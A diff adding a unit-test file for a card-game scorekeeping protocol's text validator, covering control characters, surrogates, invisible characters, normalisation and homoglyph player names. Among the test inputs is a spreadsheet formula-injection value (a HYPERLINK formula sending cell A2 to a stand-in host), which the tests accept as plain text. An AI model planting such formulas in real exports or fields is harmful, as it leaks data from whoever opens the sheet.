@@ -1,0 +1,126 @@
+"""The free-text boundary (protocol.rules.text) and the engine's use of it: no database."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from protocol.rules import evaluate
+from protocol.rules import text
+from tests.unit.builders import PLAYERS, document, quiet
+
+CONTROL = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"] + ["\x7f", "\x85"]
+
+
+@pytest.mark.parametrize("char", CONTROL)
+def test_a_control_character_in_a_name_is_refused_naming_the_field_and_the_character(char):
+    problem = text.name_problem(f"Gast{char}X", "Gäste")
+    assert problem is not None and "„Gäste“" in problem
+    assert f"U+{ord(char):04X}" in problem
+
+
+def test_nul_and_lone_surrogates_are_refused_even_in_a_reason():
+    assert "Nullzeichen" in text.reason_problem("zu\x00spät")
+    assert "Surrogat" in text.reason_problem("zu\ud800spät")
+    assert "Surrogat" in text.name_problem("\udfffAnna")
+
+
+def test_a_reason_may_have_several_lines_and_tabs_but_a_name_may_not():
+    assert text.reason_problem("Karte gezeigt\r\nund\tgelacht") is None
+    assert "Steuerzeichen" in text.name_problem("Anna\nB")
+
+
+@pytest.mark.parametrize("invisible", ["\u200b", "\u200b\u200d", "\u202e", "\u2066\u2069", "\ufeff", " \u00ad "])
+def test_a_name_made_only_of_invisible_characters_is_refused(invisible):
+    assert "unsichtbaren Zeichen" in text.name_problem(invisible, "Name")
+
+
+def test_a_text_not_in_nfc_is_refused_and_normalise_gives_nfc():
+    decomposed = "Jo\u0308rg"  # ö as o + combining diaeresis (a Mac file)
+    assert "NFC" in text.name_problem(decomposed)
+    assert text.normalise(decomposed) == "Jörg"
+    assert text.name_problem(text.normalise(decomposed)) is None
+    assert text.normalise_strings({"players": [decomposed], "n": 1}) == {"players": ["Jörg"], "n": 1}
+
+
+def test_lengths_are_checked_with_the_number_of_characters():
+    assert text.name_problem("x" * 80) is None
+    assert "höchstens 80 Zeichen, nicht 81" in text.name_problem("x" * 81)
+    assert "höchstens 500" in text.reason_problem("x" * 501)
+
+
+@pytest.mark.parametrize("a, b", [("Bernd", "bernd"), ("Bernd", "BERND"), ("Anna", "\u0410nna"),
+                                  ("Max Müller", "Max  Müller"), ("Otto", "Οtto"), ("Anna", "Ａｎｎａ"),
+                                  ("Anna", "An\u200bna")])
+def test_names_that_differ_only_by_case_or_lookalike_letters_fold_alike(a, b):
+    assert text.fold(a) == text.fold(b)
+    assert text.lookalikes([a, "Carla", b]) == [(a, b)]
+
+
+def test_different_names_stay_different():
+    assert text.lookalikes(["Anna", "Anne", "Bernd", "Bernt", "Jörg", "Jorg"]) == []
+
+
+def test_formula_like_names_are_fine_texts():
+    for name in ("=1+1", "+49", "-x", "@home", '=HYPERLINK("http://x?"&A2,"D")'):
+        assert text.name_problem(name) is None
+
+
+@given(st.text(max_size=20))
+def test_the_validator_answers_any_text_with_a_message_or_none(value):
+    problem = text.text_problem(value, "Feld", max_length=10, required=True)
+    assert problem is None or "„Feld“" in problem
+    if problem is None:
+        assert text.visible(value) and len(value) <= 10
+
+
+# -- the engine refuses the same input ------------------------------------------------------
+
+def test_the_engine_refuses_a_player_with_a_control_character():
+    players = ["Anna", "Bernd", "Carla", "Gast\x01X"]
+    errors = evaluate(document([quiet(players)], players=players)).errors
+    assert [(e.field, e.message) for e in errors] == [
+        ("players", "„Spieler 4“ enthält ein Steuerzeichen (U+0001); bitte entfernen.")]
+
+
+@pytest.mark.parametrize("players", [["Anna", "Bernd", "Carla", "bernd"], ["Max", "Bernd", "Carla", "M\u0430x"]])
+def test_the_engine_refuses_players_nobody_could_tell_apart(players):
+    errors = evaluate(document([quiet(players)], players=players)).errors
+    assert len(errors) == 1 and errors[0].field == "players" and "kaum zu unterscheiden" in errors[0].message
+
+
+@pytest.mark.parametrize("reason, words", [("zu\x00spät", "Nullzeichen"), ("\x1b[31m", "Steuerzeichen"),
+                                           ("\u200b", "unsichtbaren"), ("x" * 501, "höchstens 500")])
+def test_the_engine_refuses_a_bad_reason_of_a_strafe(reason, words):
+    events = [quiet(), {"penalty": {"player": "Anna", "points": 100, "reason": reason,
+                                    "decided_by": ["Bernd", "Carla"]}}]
+    errors = evaluate(document(events)).errors
+    assert [(e.event, e.field) for e in errors] == [(1, "reason")] and words in errors[0].message
+
+
+@pytest.mark.parametrize("ruleset", ["doppelkopf", "tarot"])
+def test_the_tally_games_refuse_a_bad_warning_reason(ruleset):
+    players = PLAYERS
+    doc = {"format": "protocol/1", "ruleset": ruleset, "players": players, "scorekeeper": "Anna",
+           "settings": {"rules": "tcg"} if ruleset == "doppelkopf" else {},
+           "events": [{"warning": {"player": "Anna", "reason": "laut\x07"}}]}
+    errors = evaluate(doc).errors
+    assert [(e.event, e.field) for e in errors] == [(0, "reason")], errors
+    assert "U+0007" in errors[0].message
+
+
+def test_the_engine_refuses_nul_and_surrogates_anywhere_else_in_the_document():
+    doc = document([quiet()])
+    doc["place"] = "Nür\x00tingen"
+    doc["events"].append({"annul_match": {"reason": "Karten\ud83d fehlen"}})
+    doc["events"][0]["game"]["annul_reason"] = "\x01"
+    doc["events"][0]["game"]["trump"]["value"] = "rot\x00"
+    errors = {(e.event, e.field): e.message for e in evaluate(doc).errors}
+    assert "Nullzeichen" in errors[(None, "place")]
+    assert "Surrogat" in errors[(1, "reason")]
+    assert "U+0001" in errors[(0, "annul_reason")]
+    assert "Nullzeichen" in errors[(0, "value")]
+
+
+def test_a_valid_document_with_formula_like_names_is_fine():
+    players = ["=1+1", "+49", "-x", "@home"]
+    assert evaluate(document([quiet(players)], players=players)).ok
